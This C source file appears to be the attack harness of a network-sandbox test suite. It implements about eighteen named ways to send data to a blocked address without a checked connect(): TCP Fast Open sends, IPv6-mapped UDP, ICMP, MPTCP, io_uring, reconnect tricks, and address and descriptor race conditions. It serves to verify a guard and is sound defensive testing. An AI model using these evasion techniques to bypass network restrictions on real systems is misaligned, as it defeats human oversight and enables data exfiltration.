/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Every way to send a byte to ADDRESS:PORT without connect() to it, each under a name. `rung_attacks NAME ADDRESS PORT` ends with 0 if the byte was
 * handed to the kernel for that address, with 1 if not. Races run for a second or so.
 *
 * Without a sandbox each of them reaches the address; the test shows that first.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static struct sockaddr_in target, decoy;
static const char byte[] = "GET /stolen HTTP/1.0\r\n\r\n";

static int tcp(void) {
    return socket(AF_INET, SOCK_STREAM, 0);
}

/* Through a socket that may be connected to the target: the byte is on its way only if the peer is the target. */
static int said(int s) {
    struct sockaddr_in peer;
    socklen_t len = sizeof peer;

    if (getpeername(s, (struct sockaddr *)&peer, &len) < 0 || peer.sin_addr.s_addr != target.sin_addr.s_addr ||
        peer.sin_port != target.sin_port)
        return 1;
    return write(s, byte, sizeof byte - 1) > 0 ? 0 : 1;
}

static int wait_connected(int s) {
    struct pollfd p = {.fd = s, .events = POLLOUT};

    poll(&p, 1, 2000);
    return said(s);
}

static int by_sendto(void) {
    int s = tcp();

    return sendto(s, byte, sizeof byte - 1, MSG_FASTOPEN, (struct sockaddr *)&target, sizeof target) < 0 ? 1 : wait_connected(s);
}

static int by_sendmsg(void) {
    struct iovec v = {(void *)byte, sizeof byte - 1};
    struct msghdr m = {.msg_name = &target, .msg_namelen = sizeof target, .msg_iov = &v, .msg_iovlen = 1};
    int s = tcp();

    return sendmsg(s, &m, MSG_FASTOPEN) < 0 ? 1 : wait_connected(s);
}

static int by_sendmmsg(void) {
    struct iovec v = {(void *)byte, sizeof byte - 1};
    struct mmsghdr m = {.msg_hdr = {.msg_name = &target, .msg_namelen = sizeof target, .msg_iov = &v, .msg_iovlen = 1}};
    int s = tcp();

    return sendmmsg(s, &m, 1, MSG_FASTOPEN) < 1 ? 1 : wait_connected(s);
}

static int by_fastopen_connect(void) {
    int s = tcp(), on = 1;

    if (setsockopt(s, IPPROTO_TCP, 30 /* TCP_FASTOPEN_CONNECT */, &on, sizeof on) < 0)
        return 1;
    if (connect(s, (struct sockaddr *)&target, sizeof target) < 0 || write(s, byte, sizeof byte - 1) < 0)
        return 1;
    return wait_connected(s);
}

static int by_udp(void) {
    int s = socket(AF_INET, SOCK_DGRAM, 0);

    return s < 0 || sendto(s, byte, sizeof byte - 1, 0, (struct sockaddr *)&target, sizeof target) < 0;
}

static int by_udp6(void) {
    struct sockaddr_in6 a = {.sin6_family = AF_INET6, .sin6_port = target.sin_port};
    int s = socket(AF_INET6, SOCK_DGRAM, 0);

    a.sin6_addr.s6_addr[10] = a.sin6_addr.s6_addr[11] = 0xff;
    memcpy(a.sin6_addr.s6_addr + 12, &target.sin_addr, 4);
    return s < 0 || sendto(s, byte, sizeof byte - 1, 0, (struct sockaddr *)&a, sizeof a) < 0;
}

static int by_ping(void) {
    char packet[16] = {8};
    int s = socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP);

    return s < 0 || sendto(s, packet, sizeof packet, 0, (struct sockaddr *)&target, sizeof target) < 0;
}

static int by_mptcp(void) {
    int s = socket(AF_INET, SOCK_STREAM, 262);

    return s < 0 || connect(s, (struct sockaddr *)&target, sizeof target) < 0 ? 1 : said(s);
}

static int by_connect(void) {
    int s = tcp();

    return connect(s, (struct sockaddr *)&target, sizeof target) < 0 ? 1 : said(s);
}

/* Connect to what is fine, dissolve, connect to the target. */
static int by_reconnect(void) {
    const struct sockaddr none = {.sa_family = AF_UNSPEC};
    int s = tcp();

    connect(s, (struct sockaddr *)&decoy, sizeof decoy);
    connect(s, &none, sizeof none);
    return connect(s, (struct sockaddr *)&target, sizeof target) < 0 ? 1 : said(s);
}

/* A socket that was accepted from a listener inside. */
static int by_accepted(void) {
    struct sockaddr_in a = {.sin_family = AF_INET};
    const struct sockaddr none = {.sa_family = AF_UNSPEC};
    socklen_t len = sizeof a;
    int l = tcp(), c = tcp(), s;

    if (bind(l, (struct sockaddr *)&a, sizeof a) < 0 || listen(l, 1) < 0 || getsockname(l, (struct sockaddr *)&a, &len) < 0)
        return 1;
    if (a.sin_addr.s_addr == 0)
        a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (connect(c, (struct sockaddr *)&a, sizeof a) < 0)
        return 1;
    s = accept(l, NULL, NULL);
    if (connect(s, &none, sizeof none) < 0)
        return 1;
    return connect(s, (struct sockaddr *)&target, sizeof target) < 0 ? 1 : said(s);
}

static int by_uring(void) {
    struct io_uring_params p = {0};
    int ring = (int)syscall(SYS_io_uring_setup, 8, &p), s = tcp();
    char *sq;
    struct io_uring_sqe *e;
    unsigned *tail, *array;

    if (ring < 0)
        return 1;
    sq = mmap(NULL, p.sq_off.array + p.sq_entries * 4, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
    e = mmap(NULL, p.sq_entries * sizeof *e, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
    if (sq == MAP_FAILED || e == MAP_FAILED)
        return 1;
    *e = (struct io_uring_sqe){.opcode = IORING_OP_CONNECT, .fd = s, .addr = (uintptr_t)&target, .off = sizeof target};
    tail = (unsigned *)(sq + p.sq_off.tail);
    array = (unsigned *)(sq + p.sq_off.array);
    array[0] = 0;
    __atomic_store_n(tail, 1, __ATOMIC_RELEASE);
    if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
        return 1;
    return said(s);
}

/* -- races: what the guard judged becomes another while it works ------------------------------------------------------------ */

static atomic_int over;
static struct sockaddr_in shared;

static void *swap_address(void *arg) {
    while (!over) {
        memcpy((void *)&shared, &target, sizeof target);
        __asm__ volatile("" ::: "memory");
        memcpy((void *)&shared, &decoy, sizeof decoy);
        __asm__ volatile("" ::: "memory");
    }
    return arg;
}

static double now(void) {
    struct timespec t;

    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* connect() to a fine address that becomes the target's. */
static int by_address_race(void) {
    pthread_t t;
    int r = 1;

    pthread_create(&t, NULL, swap_address, NULL);
    for (double end = now() + 1.5; r && now() < end;) {
        int s = tcp();

        if (connect(s, (struct sockaddr *)&shared, sizeof shared) == 0)
            r = said(s);
        close(s);
    }
    over = 1;
    pthread_join(t, NULL);
    return r;
}

static int pair[2], number;

static void *swap_descriptor(void *arg) {
    while (!over) {
        dup2(pair[0], number);
        dup2(pair[1], number);
    }
    return arg;
}

/* Two sockets take turns at one number, with connect, bind and listen on it. */
static int by_descriptor_race(void) {
    struct sockaddr_in any = {.sin_family = AF_INET};
    pthread_t t;
    int r = 1;

    number = dup(2);
    pair[0] = pair[1] = number;
    pthread_create(&t, NULL, swap_descriptor, NULL);
    for (double end = now() + 1.5; r && now() < end;) {
        int a = tcp(), b = tcp(), turn = rand() % 4;

        pair[0] = a;
        pair[1] = b;
        if (turn == 1)
            bind(number, (struct sockaddr *)&any, sizeof any);
        if (turn == 2)
            listen(number, 1);
        connect(number, (struct sockaddr *)&target, sizeof target);
        r = said(a) && said(b);
        close(a);
        close(b);
    }
    over = 1;
    pthread_join(t, NULL);
    return r;
}

/* -- servers that others could connect to ------------------------------------------------------------------------------------ */

/* listen() without bind(): the kernel would choose a port at every address. Prints what it became; the test looks at it from outside. */
static int by_listen(void) {
    struct sockaddr_in a;
    socklen_t len = sizeof a;
    int l = tcp(), s;
    char line[64];

    if (listen(l, 8) < 0 || getsockname(l, (struct sockaddr *)&a, &len) < 0)
        return 1;
    printf("%s %d\n", inet_ntoa(a.sin_addr), ntohs(a.sin_port));
    fflush(stdout);
    fcntl(l, F_SETFL, O_NONBLOCK);
    if (!fgets(line, sizeof line, stdin)) /* the test has tried */
        return 1;
    s = accept(l, NULL, NULL);
    return s >= 0 ? 0 : 1;
}

/* The same, with every option that could take the guard's key away. */
static int by_listen_bare(void) {
    int options[][2] = {{SOL_SOCKET, SO_DETACH_FILTER}, {IPPROTO_TCP, 14}, {IPPROTO_TCP, 32}, {SOL_SOCKET, SO_REUSEPORT}};
    char nothing[256] = {0};
    struct sockaddr_in a = {.sin_family = AF_INET};
    socklen_t len = sizeof a;
    int l = tcp(), s;

    a.sin_addr.s_addr = htonl(INADDR_ANY);
    if (bind(l, (struct sockaddr *)&a, sizeof a) < 0 || listen(l, 8) < 0)
        return 1;
    for (int prefix = 0; prefix <= 32; prefix += 8) {
        struct tcp_md5sig sig = {.tcpm_flags = TCP_MD5SIG_FLAG_PREFIX, .tcpm_prefixlen = (uint8_t)prefix};
        struct sockaddr_in net = {.sin_family = AF_INET, .sin_addr = {prefix ? htonl(127u << 24) : 0}};

        memcpy(&sig.tcpm_addr, &net, sizeof net);
        setsockopt(l, IPPROTO_TCP, 32, &sig, sizeof sig);
        setsockopt(l, IPPROTO_TCP, 14, &sig, sizeof sig);
    }
    for (size_t i = 0; i < sizeof options / sizeof *options; i++)
        setsockopt(l, options[i][0], options[i][1], nothing, sizeof nothing);
    getsockname(l, (struct sockaddr *)&a, &len);
    printf("%s %d\n", inet_ntoa(a.sin_addr), ntohs(a.sin_port));
    fflush(stdout);
    fcntl(l, F_SETFL, O_NONBLOCK);
    if (!fgets(nothing, sizeof nothing, stdin))
        return 1;
    s = accept(l, NULL, NULL);
    return s >= 0 ? 0 : 1;
}

/* -- other ways ---------------------------------------------------------------------------------------------------------------- */

static int by_family(int family, int type, int protocol) {
    int s = socket(family, type, protocol);

    return s < 0;
}

static int by_families(void) {
    static const int all[][3] = {{AF_PACKET, SOCK_RAW, 0},
                                 {AF_INET, SOCK_RAW, 6},
                                 {AF_NETLINK, SOCK_RAW, 0},
                                 {40 /* vsock */, SOCK_STREAM, 0},
                                 {AF_INET, SOCK_STREAM, 132 /* SCTP */},
                                 {38 /* alg */, SOCK_SEQPACKET, 0},
                                 {AF_UNIX, SOCK_DGRAM, 0},
                                 {44 /* xdp */, SOCK_RAW, 0}};
    int r = 1;

    for (size_t i = 0; i < sizeof all / sizeof *all; i++)
        if (by_family(all[i][0], all[i][1], all[i][2]) == 0) {
            fprintf(stderr, "family %d type %d protocol %d was made\n", all[i][0], all[i][1], all[i][2]);
            r = 0;
        }
    return r;
}

static int by_options(void) {
    int s = tcp(), on = 1, r = 1;
    struct {
        int level, name;
        const void *value;
        socklen_t len;
    } all[] = {{SOL_SOCKET, SO_BINDTODEVICE, "lo", 3},
               {SOL_SOCKET, SO_MARK, &on, sizeof on},
               {IPPROTO_IP, 19 /* IP_TRANSPARENT */, &on, sizeof on},
               {IPPROTO_IP, 15 /* IP_FREEBIND */, &on, sizeof on},
               {IPPROTO_IP, 4 /* IP_OPTIONS */, "\1\1\1\1", 4},
               {IPPROTO_TCP, 19 /* TCP_REPAIR */, &on, sizeof on},
               {IPPROTO_IP, 50 /* IP_UNICAST_IF */, &on, sizeof on},
               {IPPROTO_TCP, 31 /* TCP_ULP */, "tls", 4}};

    for (size_t i = 0; i < sizeof all / sizeof *all; i++)
        if (setsockopt(s, all[i].level, all[i].name, all[i].value, all[i].len) == 0) {
            fprintf(stderr, "option %d of %d was set\n", all[i].name, all[i].level);
            r = 0;
        }
    return r;
}

static const struct {
    const char *name;
    int (*run)(void);
} attacks[] = {
    {"connect", by_connect},
    {"sendto", by_sendto},
    {"sendmsg", by_sendmsg},
    {"sendmmsg", by_sendmmsg},
    {"fastopen", by_fastopen_connect},
    {"udp", by_udp},
    {"udp6", by_udp6},
    {"ping", by_ping},
    {"mptcp", by_mptcp},
    {"reconnect", by_reconnect},
    {"accepted", by_accepted},
    {"uring", by_uring},
    {"address-race", by_address_race},
    {"descriptor-race", by_descriptor_race},
    {"listen", by_listen},
    {"listen-bare", by_listen_bare},
    {"families", by_families},
    {"options", by_options},
};

int main(int argc, char **argv) {
    if (argc != 4)
        return 2;
    target = (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(argv[3]))};
    decoy = target;
    inet_pton(AF_INET, argv[2], &target.sin_addr);
    inet_pton(AF_INET, "198.51.100.7", &decoy.sin_addr);
    for (size_t i = 0; i < sizeof attacks / sizeof *attacks; i++)
        if (strcmp(attacks[i].name, argv[1]) == 0)
            return attacks[i].run();
    return 2;
}
